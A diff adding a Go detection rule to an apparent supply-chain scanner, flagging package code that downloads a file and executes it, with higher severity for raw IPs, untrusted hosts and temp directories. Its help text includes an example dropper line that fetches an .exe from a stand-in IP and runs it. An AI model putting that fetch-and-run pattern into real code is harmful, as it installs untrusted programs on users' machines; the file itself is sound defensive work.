@@ -1,0 +1,101 @@
+// Package exec holds rules about downloading and running binaries.
+package exec
+
+import (
+	"context"
+	"fmt"
+	"path"
+	"strings"
+
+	"github.com/depfence/depfence/internal/analyze"
+	"github.com/depfence/depfence/internal/finding"
+	"github.com/depfence/depfence/internal/rules/rulekit"
+)
+
+// DownloadExecute flags code that downloads a file and runs it.
+type DownloadExecute struct{}
+
+// Meta implements analyze.Rule.
+func (DownloadExecute) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "exec/download-execute", Version: 1, Title: "Downloads a program and runs it",
+		Help: "One file both downloads (HTTP request written to disk) and executes (spawn/exec/execFile or chmod +x). Binary installers such as " +
+			"esbuild or sharp do this from the npm registry or GitHub releases and are reported at low severity; an executable fetched from a raw IP, " +
+			"an unknown host or into a temp directory is a dropper.",
+		Remediation:     "Check the download URL. Prefer packages that ship platform binaries as optional dependencies.",
+		Example:         `download("http://203.0.113.9/app.exe", tmp); execFileSync(tmp)`,
+		DefaultSeverity: finding.SeverityMedium, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
+	}
+}
+
+var execExt = map[string]bool{".exe": true, ".msi": true, ".scr": true, ".bat": true, ".cmd": true, ".ps1": true, ".vbs": true, ".dll": true, ".sh": true, ".bin": true, ".jar": true, ".apk": true, ".com": true, ".pif": true, ".hta": true}
+
+// Check implements analyze.Rule.
+func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		download, write, run := false, false, false
+		runLine, runSnip := 0, ""
+		for _, c := range f.Facts.Calls {
+			if rulekit.IsNetCall(c) {
+				download = true
+			}
+			switch rulekit.Last(c.Callee) {
+			case "createWriteStream", "writeFile", "writeFileSync", "pipe":
+				write = true
+			case "chmod", "chmodSync":
+				run = true
+			}
+			if rulekit.IsSpawn(c) {
+				run = true
+				if runLine == 0 {
+					runLine, runSnip = c.Pos.Line, c.Snippet
+				}
+			}
+		}
+		if !(download && write && run) {
+			continue
+		}
+		sev, why := finding.SeverityLow, "downloads from a trusted host"
+		urls := 0
+		temp := false
+		for _, e := range f.Facts.Env {
+			if e.Name == "TEMP" || e.Name == "TMP" || e.Name == "APPDATA" || e.Name == "LOCALAPPDATA" {
+				temp = true
+			}
+		}
+		for _, c := range f.Facts.Calls {
+			if c.Callee == "os.tmpdir" {
+				temp = true
+			}
+		}
+		for _, s := range f.Facts.Strings {
+			if len(s.Value) > 2048 {
+				continue
+			}
+			for _, u := range rulekit.URLs(s.Value) {
+				urls++
+				h := rulekit.Host(u)
+				ext := strings.ToLower(path.Ext(strings.SplitN(u, "?", 2)[0]))
+				switch {
+				case rulekit.PublicIP(h):
+					sev, why = finding.SeverityCritical, "fetches from raw IP "+h
+				case execExt[ext] && !rulekit.Trusted(h):
+					if sev < finding.SeverityCritical {
+						sev, why = finding.SeverityCritical, "fetches executable "+u
+					}
+				case !rulekit.Trusted(h) && sev < finding.SeverityMedium:
+					sev, why = finding.SeverityMedium, "fetches from "+h
+				}
+			}
+		}
+		if urls == 0 {
+			sev, why = finding.SeverityLow, "download URL not constant"
+		}
+		if temp && sev >= finding.SeverityMedium {
+			sev = finding.SeverityCritical
+			why += ", runs it from a temp directory"
+		}
+		r.Report(analyze.Instance{File: f.Name, Line: runLine, Severity: sev, Message: fmt.Sprintf("downloads a file and executes it (%s)", why), Evidence: rulekit.Ev(runSnip, "", "")})
+	}
+	return nil
+}
